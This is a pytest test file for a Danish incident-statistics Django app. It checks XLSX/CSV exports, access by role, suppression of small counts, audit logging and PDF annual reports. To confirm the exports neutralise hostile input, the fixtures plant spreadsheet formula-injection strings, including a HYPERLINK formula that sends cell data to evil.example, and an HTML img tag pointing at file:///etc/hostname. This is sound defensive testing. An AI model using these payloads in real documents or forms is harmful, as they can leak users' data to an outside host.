"""Exports hold what the person may read: the episodes, with Danish headers and real dates, for
those who may open every case; the overview's protected figures, never a row per episode, for
those who may only see statistics. No text in them is ever a formula, and every export and
annual report is in the audit log."""

import csv
import io
from datetime import date, datetime, time, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.incidents.factories import make_incident
from tests.stats.conftest import days_ago
from tryghed.audit.models import Action, AuditEvent
from tryghed.prevention.models import Measure, MeasureSource
from tryghed.stats.suppression import Shown
from tryghed.stats.templatetags.stats_tags import shown as shown_text

FORMULA_STARTS = ["=", "+", "-", "@", "\t"]
HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'


def workbook(response):
    return load_workbook(io.BytesIO(response.content)).active


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_the_xlsx_holds_the_managers_units_with_danish_headers_and_dates(client, manager, episodes):
    client.force_login(manager)
    response = client.get(reverse("stats:export_xlsx"))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="episoder-')
    assert "no-store" in response["Cache-Control"], "a shared PC keeps no copy of the cases"
    sheet = workbook(response)
    rows = list(sheet.iter_rows(values_only=True))
    headers = rows[0]
    assert headers[:4] == ("Sagsnummer", "Dato", "Klokken", "Enhed")
    assert len(rows) == 1 + 6
    assert {row[3] for row in rows[1:]} == {"Kløverengen", "Afsnit Æblehaven"}
    assert "Hvad skete der kort fortalt" in headers or any("kort" in h for h in headers)


def test_the_xlsx_has_real_dates_a_frozen_header_an_autofilter_and_widths(
    client, manager, episodes
):
    client.force_login(manager)
    sheet = workbook(client.get(reverse("stats:export_xlsx")))
    headers = [cell.value for cell in sheet[1]]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(headers)).column_letter}7"
    for name in ("Dato", "Registreret"):
        cell = sheet.cell(2, headers.index(name) + 1)
        assert cell.data_type == "d" and cell.is_date
        assert isinstance(cell.value, datetime) and cell.number_format == "dd-mm-yyyy"
    clock = sheet.cell(2, headers.index("Klokken") + 1)
    assert clock.is_date and isinstance(clock.value, time) and clock.number_format == "hh:mm"
    description = sheet.column_dimensions[sheet.cell(1, len(headers)).column_letter]
    assert 20 < description.width <= 62


@pytest.fixture
def hostile_episodes(tree, employee):
    """One episode whose free text starts with each character a spreadsheet reads as the start
    of a formula."""
    return [
        make_incident(
            employee,
            tree["own"],
            occurred_at=days_ago(2 + n),
            description=start + 'HYPERLINK("https://evil.example/?d="&A1,"klik")',
            place=start + "1+1",
        )
        for n, start in enumerate(FORMULA_STARTS)
    ] + [make_incident(employee, tree["own"], occurred_at=days_ago(9), description=HOSTILE)]


def test_text_that_looks_like_a_formula_is_text_in_every_xlsx_cell(
    client, manager, hostile_episodes
):
    client.force_login(manager)
    sheet = workbook(client.get(reverse("stats:export_xlsx")))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    typed = {incident.description for incident in hostile_episodes} | {
        incident.place for incident in hostile_episodes
    }
    holding = [cell for cell in cells if cell.value in typed]
    assert {cell.value for cell in holding} == typed
    assert all(cell.data_type == "s" for cell in holding)
    dates = list(sheet["B"][1:])
    assert dates and all(cell.is_date and isinstance(cell.value, datetime) for cell in dates)


def test_text_that_looks_like_a_formula_starts_with_an_apostrophe_in_the_csv(
    client, manager, hostile_episodes
):
    client.force_login(manager)
    rows = csv_rows(client.get(reverse("stats:export_csv")))
    header = rows[0]
    descriptions = [row[header.index("Hvad skete der, kort fortalt")] for row in rows[1:]]
    places = [
        row[header.index("Hvor præcist")] for row in rows[1:] if row[header.index("Hvor præcist")]
    ]
    assert sorted(descriptions) == sorted("'" + i.description for i in hostile_episodes)
    assert sorted(places) == sorted("'" + i.place for i in hostile_episodes if i.place)
    assert all(row[header.index("Dato")][:4].isdigit() for row in rows[1:]), "ISO dates"


def test_the_csv_has_the_same_rows(client, manager, episodes):
    client.force_login(manager)
    rows = csv_rows(client.get(reverse("stats:export_csv"), {"kind": "physical"}))
    assert rows[0][0] == "Sagsnummer"
    assert len(rows) == 1 + 2


def page_and_file(client, person, fmt, **filters):
    client.force_login(person)
    page = client.get(reverse("stats:overview"), filters)
    response = client.get(reverse(f"stats:export_{fmt}"), filters)
    if fmt == "xlsx":
        rows = [list(row) for row in workbook(response).iter_rows(values_only=True)]
    else:
        rows = csv_rows(response)
    return page, response, rows


def expected_figures(page):
    """{(table, row, column): what the page shows}, from the page's own tables."""
    result = {}
    for table in page.context["tables"]:
        for row in table.rows:
            cells = [(table.heading, row.count), *zip(table.columns, row.extra, strict=False)]
            for column, value in cells:
                result[str(table.title), str(row.label), str(column)] = value
    return result


def as_page_shows(value, fmt):
    if isinstance(value, Shown):
        value = value.number if value.is_shown else str(shown_text(value))
    if fmt == "csv":
        return "" if value is None else str(value).replace(".", ",")
    return value


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("who", ["hr", "executive"])
def test_hr_and_executives_export_the_figures_of_the_page_and_never_an_episode(
    client, request, episodes, who, fmt
):
    person = request.getfixturevalue(who)
    page, response, rows = page_and_file(client, person, fmt)
    assert response.status_code == 200
    assert 'filename="tal-' in response["Content-Disposition"]
    assert rows[0] == ["Opgørelse", "Gruppe", "Kolonne", "Tal"]
    expected = expected_figures(page)
    got = {tuple(row[:3]): row[3] for row in rows[1:] if row[2] != "Dage"}
    assert got.keys() == expected.keys()
    for key, value in expected.items():
        assert got[key] == as_page_shows(value, fmt), key
    shown = [row[3] for row in rows[1:]]
    assert "<3" in shown, "small counts are protected as on the page"
    total = [row[3] for row in rows[1:] if row[1:3] == ["Alle episoder", "Denne periode"]]
    assert total == [10 if fmt == "xlsx" else "10"], "9 episodes, rounded as on the page"
    everything = {str(value) for row in rows for value in row}
    for incident in episodes:
        assert incident.number not in everything and incident.description not in everything
    assert AuditEvent.objects.filter(action=Action.FIGURES_EXPORTED, actor=person).exists()
    assert not AuditEvent.objects.filter(action=Action.EPISODES_EXPORTED).exists()


def test_the_medians_are_in_the_figures_as_on_the_page(client, hr, episodes):
    page, _response, rows = page_and_file(client, hr, "xlsx")
    medians = {row[1]: row[3] for row in rows[1:] if row[2] == "Dage"}
    assert list(medians) == [str(label) for label, _days in page.context["medians"]]


def test_a_manager_exports_episodes_and_the_page_says_what_each_export_holds(
    client, manager, hr, episodes
):
    client.force_login(manager)
    page = client.get(reverse("stats:overview"))
    assert "Filerne indeholder episoderne (én række pr. episode)." in page.text
    assert "Episoder som regneark (XLSX)" in page.text and "Tal som CSV" not in page.text
    client.force_login(hr)
    page = client.get(reverse("stats:overview"))
    assert "Filerne indeholder tallene som på siden (små tal skjult)" in page.text
    assert "Tal som regneark (XLSX)" in page.text and "Tal som CSV" in page.text
    assert "Episoder som regneark" not in page.text


def test_a_manager_who_picks_units_beyond_their_cases_gets_the_figures(
    client, tree, manager, hr, episodes
):
    """Someone who is both HR and a manager gets episodes for their own unit, figures for the
    whole municipality: the export holds what the page shows."""
    from tests.factories import MembershipFactory
    from tryghed.organizations.roles import Role

    MembershipFactory(user=manager, unit=tree["root"], role=Role.ADVISOR)
    client.force_login(manager)
    own = csv_rows(client.get(reverse("stats:export_csv"), {"unit": tree["own"].pk}))
    assert own[0][0] == "Sagsnummer" and len(own) == 1 + 6
    everything = csv_rows(client.get(reverse("stats:export_csv")))
    assert everything[0][0] == "Opgørelse"


def test_every_export_writes_an_audit_event(client, manager, episodes):
    client.force_login(manager)
    client.get(reverse("stats:export_csv"))
    client.get(reverse("stats:export_xlsx"))
    events = AuditEvent.objects.filter(action=Action.EPISODES_EXPORTED, actor=manager)
    assert sorted(event.data["format"] for event in events) == ["csv", "xlsx"]
    assert all(event.data["rows"] == 6 for event in events)


def test_exports_answer_404_to_those_without_statistics(client, employee):
    client.force_login(employee)
    assert client.get(reverse("stats:export_xlsx")).status_code == 404
    assert client.get(reverse("stats:annual_report")).status_code == 404


@pytest.mark.parametrize("year_offset", [0, 1])
def test_the_annual_report_is_a_pdf_with_the_years_figures(
    client, tree, manager, episodes, year_offset
):
    client.force_login(manager)
    year = timezone.localdate().year - year_offset
    response = client.get(reverse("stats:annual_report"), {"unit": tree["own"].pk, "year": year})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert f"Årsrapport {year}: Kløverengen" in text
    assert "Tiltag besluttet ved evalueringer" in text
    assert AuditEvent.objects.filter(action=Action.ANNUAL_REPORT_MADE, actor=manager).exists()


def test_markup_typed_into_a_measure_is_text_in_the_annual_report(client, tree, employee, manager):
    incident = make_incident(employee, tree["own"])
    Measure.objects.create(
        unit=tree["own"],
        incident=incident,
        title="<b>Glasværn</b> <img src='file:///etc/hostname'>",
        owner=employee,
        due_on=timezone.localdate() + timedelta(days=20),
        source=MeasureSource.EVALUATION,
        created_by=manager,
    )
    client.force_login(manager)
    year = timezone.localdate().year
    response = client.get(reverse("stats:annual_report"), {"unit": tree["own"].pk, "year": year})
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "<b>Glasværn</b>" in text


def test_the_annual_report_of_a_unit_not_ones_own_is_refused(client, tree, manager):
    client.force_login(manager)
    response = client.get(reverse("stats:annual_report"), {"unit": tree["beside"].pk, "year": 2025})
    assert response.status_code == 200  # the form again, with a message at the field
    assert response["Content-Type"].startswith("text/html")
    assert response.context["form"].errors["unit"]


def test_dates_in_the_csv_are_iso(client, manager, episodes):
    client.force_login(manager)
    rows = csv_rows(client.get(reverse("stats:export_csv")))
    assert date.fromisoformat(rows[1][rows[0].index("Dato")])
